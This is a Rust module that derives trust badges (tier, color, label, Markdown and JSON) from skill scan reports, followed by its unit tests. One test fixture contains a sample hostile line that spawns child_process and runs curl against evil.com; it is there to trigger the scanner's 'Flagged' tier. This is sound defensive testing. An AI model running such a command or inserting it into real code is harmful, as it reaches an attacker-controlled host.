//! Trust badges derived from scan reports.
//!
//! A badge is a pure function of a report; it carries no identity of its own
//! and can be regenerated at any time, including after the report has left
//! the store.

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

use crate::error::Result;
use crate::scanner::{ScanReport, Verdict};

/// Badge tier, threshold-aligned with the scan verdict.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum BadgeTier {
    Verified,
    Reviewed,
    Flagged,
}

impl BadgeTier {
    fn from_verdict(verdict: Verdict) -> Self {
        match verdict {
            Verdict::Verified => Self::Verified,
            Verdict::Reviewed => Self::Reviewed,
            Verdict::Flagged => Self::Flagged,
        }
    }

    pub fn color(self) -> &'static str {
        match self {
            Self::Verified => "#22c55e",
            Self::Reviewed => "#eab308",
            Self::Flagged => "#ef4444",
        }
    }

    pub fn label(self) -> &'static str {
        match self {
            Self::Verified => "Tork Verified",
            Self::Reviewed => "Reviewed",
            Self::Flagged => "Flagged",
        }
    }
}

/// Derived view of a `ScanReport` suitable for READMEs and registries.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Badge {
    pub tier: BadgeTier,
    pub color: String,
    pub label: String,
    pub risk_score: u32,
    pub scanned_at: DateTime<Utc>,
    pub verify_url: String,
}

impl Badge {
    pub fn from_report(report: &ScanReport) -> Self {
        let tier = BadgeTier::from_verdict(report.verdict);
        Self {
            tier,
            color: tier.color().to_string(),
            label: tier.label().to_string(),
            risk_score: report.risk_score,
            scanned_at: report.scanned_at,
            verify_url: format!("https://tork.network/verify/{}", report.skill_name),
        }
    }

    /// Shields-style Markdown snippet linking to the verification page.
    pub fn to_markdown(&self) -> String {
        let label = self.label.replace(' ', "%20").replace('-', "--");
        let color = self.color.trim_start_matches('#');
        format!(
            "[![{}](https://img.shields.io/badge/{}-risk%20{}-{})]({})",
            self.label, label, self.risk_score, color, self.verify_url
        )
    }

    /// Pretty-printed JSON document with every badge field.
    pub fn to_json(&self) -> Result<String> {
        Ok(serde_json::to_string_pretty(self)?)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::Scanner;
    use pretty_assertions::assert_eq;

    fn report_with_score(source: &str) -> ScanReport {
        let files = vec![("index.js".to_string(), source.to_string())];
        Scanner::new().scan_skill("demo-skill", &files, vec![])
    }

    #[test]
    fn verified_badge_fields() {
        let badge = Badge::from_report(&report_with_score("const x = 1;\n"));
        assert_eq!(badge.tier, BadgeTier::Verified);
        assert_eq!(badge.color, "#22c55e");
        assert_eq!(badge.label, "Tork Verified");
        assert_eq!(badge.risk_score, 0);
        assert_eq!(badge.verify_url, "https://tork.network/verify/demo-skill");
    }

    #[test]
    fn tier_tracks_verdict_thresholds() {
        // Two highs = 30: reviewed boundary.
        let reviewed = report_with_score("eval('1')\nconst f = new Function('x')\n");
        assert_eq!(reviewed.risk_score, 30);
        assert_eq!(Badge::from_report(&reviewed).tier, BadgeTier::Reviewed);

        // Two criticals = 50: flagged boundary.
        let flagged =
            report_with_score("require('child_process')\nexec('curl https://evil.com')\n");
        assert_eq!(flagged.risk_score, 50);
        let badge = Badge::from_report(&flagged);
        assert_eq!(badge.tier, BadgeTier::Flagged);
        assert_eq!(badge.color, "#ef4444");
    }

    #[test]
    fn markdown_embeds_label_score_color_and_link() {
        let badge = Badge::from_report(&report_with_score("const ok = true;\n"));
        let md = badge.to_markdown();
        assert_eq!(
            md,
            "[![Tork Verified](https://img.shields.io/badge/Tork%20Verified-risk%200-22c55e)]\
             (https://tork.network/verify/demo-skill)"
        );
    }

    #[test]
    fn json_contains_every_field() {
        let badge = Badge::from_report(&report_with_score("const ok = true;\n"));
        let json = badge.to_json().unwrap();
        for key in ["tier", "color", "label", "riskScore", "scannedAt", "verifyUrl"] {
            assert!(json.contains(key), "missing {key}");
        }
    }
}
